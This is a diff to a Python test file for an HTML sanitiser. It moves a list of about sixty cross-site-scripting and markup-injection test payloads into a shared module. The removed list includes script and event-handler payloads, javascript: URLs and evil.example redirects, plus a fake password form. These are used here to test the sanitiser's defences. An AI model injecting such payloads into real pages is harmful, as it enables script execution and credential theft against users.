@@ -9,72 +9,10 @@ from chalicelib.adapters.account_formats import BabelFormats
 from chalicelib.adapters.account_formats_html import TAGS
 from chalicelib.core.account import AccountField
 from chalicelib.core.account_state import FieldState, ShownValue
+from tests.hostile_markup import HOSTILE
 
 SHOW = BabelFormats().for_viewer(("en-US",), "UTC").show
 RICH = AccountField("X__c", "X", "textarea", html=True)
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    '<img src="x" alt="<script>alert(1)</script>" onerror=alert(1)>',
-    "<img alt='\"><script>alert(1)</script>' src=x>",
-    '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
-    "<img src=x onerror=alert(1)//",
-    "<IMG SRC=`javascript:alert(1)`>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='JaVaScRiPt:alert(1)'>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a href=' javascript:alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<a href='javascript&colon;alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href='//evil.example/'>x</a>",
-    "<a href='\\\\evil.example'>x</a>",
-    "<a href='https://good.example@evil.example/'>x</a>",
-    "<a href='/001000000000001'>x</a>",
-    "<a href='https://e.example' onclick=alert(1) style='x' target=_blank id=a>x</a>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
-    "<form action=//evil.example><input name=password><button>Go</button></form>",
-    "<base href=//evil.example><a href=x>x</a>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
-    "<p style='background:url(//evil.example)'>x</p>",
-    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
-    "<b><i>unclosed",
-    "</p></div></body></html><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<template><script>alert(1)</script></template>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
-    "<details open ontoggle=alert(1)>x",
-    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<body onload=alert(1)><p>x</p>",
-    "<x onclick=alert(1)>x</x>",
-    "<p>\u202egnp.exe\u202c</p>",
-    "\x00<script>alert(1)</script>",
-    "<a\x00 href='javascript:alert(1)'>x</a>",
-    "<img/src='x'/onerror=alert(1)>",
-    "<p/onclick=alert(1)>x",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;script&amp;gt;",
-]
 
 
 class _Seen(HTMLParser):
